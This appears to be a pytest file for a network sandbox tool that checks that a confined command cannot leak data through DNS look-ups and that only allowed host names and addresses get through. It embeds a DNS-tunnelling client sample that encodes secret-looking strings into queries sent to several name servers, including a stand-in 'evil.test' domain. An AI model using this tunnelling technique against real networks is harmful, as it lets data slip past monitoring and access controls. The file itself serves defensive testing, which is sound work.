"""In a network of its own: nothing is carried out in look-ups; an allowed name is looked up once, at the dial."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

PUBLIC = "93.184.216.34"

# What a tunnel's client does: every type, both transports, whatever server, and the C library.
TUNNEL = """
import socket, struct, time
def query(name, kind):
    labels = b''.join(bytes([len(part)]) + part for part in name.encode().split(b'.'))
    return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>HH', kind, 1)
start, codes = time.monotonic(), set()
for server in ('127.0.0.1', '8.8.8.8', '192.0.2.1'):
    for number, kind in enumerate((1, 28, 16, 15, 5, 10, 255, 33, 65)):
        carried = 'nbswy3dpeb3w64tmmqqhi2djomqgs4zamrqxiyi'[number:] + '.t.test'
        name = carried if number % 2 else f's3cr3t{number}.evil.test'
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(10); s.sendto(query(name, kind), (server, 53)); codes.add(s.recv(600)[3] & 15)
        with socket.create_connection((server, 53), 10) as s:
            data = query(name, kind); s.sendall(struct.pack('>H', len(data)) + data); codes.add(s.recv(600)[5] & 15)
try: socket.getaddrinfo('secret.blocked.test', 80)
except socket.gaierror: codes.add('gaierror')
print(sorted(map(str, codes)), time.monotonic() - start < 10)
"""

DIAL = """
import socket, ssl, sys
host, port, name = sys.argv[1:]
out = ssl.MemoryBIO()
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
try: context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name or None).do_handshake()
except ssl.SSLWantReadError: pass
hello = out.read()
with socket.create_connection((host, int(port)), 10) as c:
    try:
        c.sendall(hello); got = b''
        while len(got) < len(hello) and (data := c.recv(65536)): got += data
        print('same' if got == hello else 'closed')
    except OSError: print('closed')
"""


@pytest.fixture
def outer(as_caller: Any, program: Callable[[str], str]) -> Callable[..., list[dict[str, Any]]]:
    """`outer([options…, "--", command…], …)` runs each in turn; what came of it, and what the name server was asked."""
    probe = subprocess.run(["unshare", "-Urnm", "true"], capture_output=True, timeout=30, check=False)
    if probe.returncode:
        pytest.skip("no network of its own can be made here")
    program("ip")

    def run(*runs: list[str]) -> list[dict[str, Any]]:
        here = Path(__file__).with_name("outer_network.py")
        words = [json.dumps([sys.executable, "-P", "-m", "doorward", "run", "--json", *each]) for each in runs]
        as_caller.env["PYTHONPATH"] = ":".join(path for path in sys.path if path.endswith("site-packages"))
        done = subprocess.run(
            ["unshare", "-Urnm", sys.executable, str(here), str(as_caller.folder / "resolv.conf"), *words],
            env=as_caller.env, cwd=as_caller.workspace, capture_output=True, timeout=120, check=False,
            stdin=subprocess.DEVNULL,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr.decode()
        found = [json.loads(line) for line in done.stdout.splitlines()]
        assert all(each["out"] for each in found), found
        return [{**each, "document": json.loads(each["out"] or "null")} for each in found]

    return run


def test_a_tunnel_s_client_gets_nothing_out(outer: Callable[..., list[dict[str, Any]]]) -> None:
    """P-DN-01: the machine's own name server saw no query."""
    (seen,) = outer(["--allow", "*.t.test", "--allow", "evil.test", "--", "/usr/bin/python3", "-c", TUNNEL])
    assert seen["asked"] == [] and seen["status"] == 0, seen
    assert seen["document"]["output"] == "['5', 'gaierror'] True\n"
    refused = {each["host"] for each in seen["document"]["refusals"]}
    assert "s3cr3t0.evil.test" in refused and "secret.blocked.test" in refused
    assert any(host.endswith(".t.test") for host in refused)


def test_an_allowed_name_is_looked_up_once_when_it_is_dialled(outer: Callable[..., list[dict[str, Any]]]) -> None:
    """P-DN-02: one look-up an attempt, by the proxy; the answer inside is another's address."""
    ask = "import socket; print(socket.gethostbyname('www.t.test'))"
    dial = ["/usr/bin/python3", "-c", DIAL, "www.t.test", "443", "www.t.test"]
    only, dialled, other = outer(
        ["--allow", "*.t.test", "--", "/usr/bin/python3", "-c", ask],
        ["--allow", "*.t.test", "--", *dial],
        ["--allow", "*.t.test:8443", "--", *dial],
    )
    assert only["document"]["output"].startswith("198.18.") and only["asked"] == []
    assert dialled["document"]["output"] == "same\n", dialled
    assert sorted(dialled["asked"]) == [["www.t.test.", "A"], ["www.t.test.", "AAAA"]]
    assert other["document"]["output"] == "closed\n" and other["asked"] == []


def test_an_address_is_judged_as_an_address(outer: Callable[..., list[dict[str, Any]]]) -> None:
    """P-TL-02: a literal without a server name is fine, with one only if a rule allows that name too."""
    dial = ["/usr/bin/python3", "-c", DIAL, PUBLIC, "443"]
    rule = ["--allow", f"{PUBLIC}:443", "--"]
    bare, named, both, neither = outer(
        [*rule, *dial, ""],
        [*rule, *dial, "b.test"],
        ["--allow", "b.test", *rule, *dial, "b.test"],
        ["--allow", "b.test", "--", *dial, "b.test"],
    )
    said = [each["document"]["output"] for each in (bare, named, both, neither)]
    assert said == ["same\n", "closed\n", "same\n", "closed\n"], (bare, named, both, neither)
    assert [each["reason"] for each in named["document"]["refusals"]] == ["name_mismatch"]
    assert [(each["host"], each["reason"]) for each in neither["document"]["refusals"]] == [(PUBLIC, "not_allowed")]
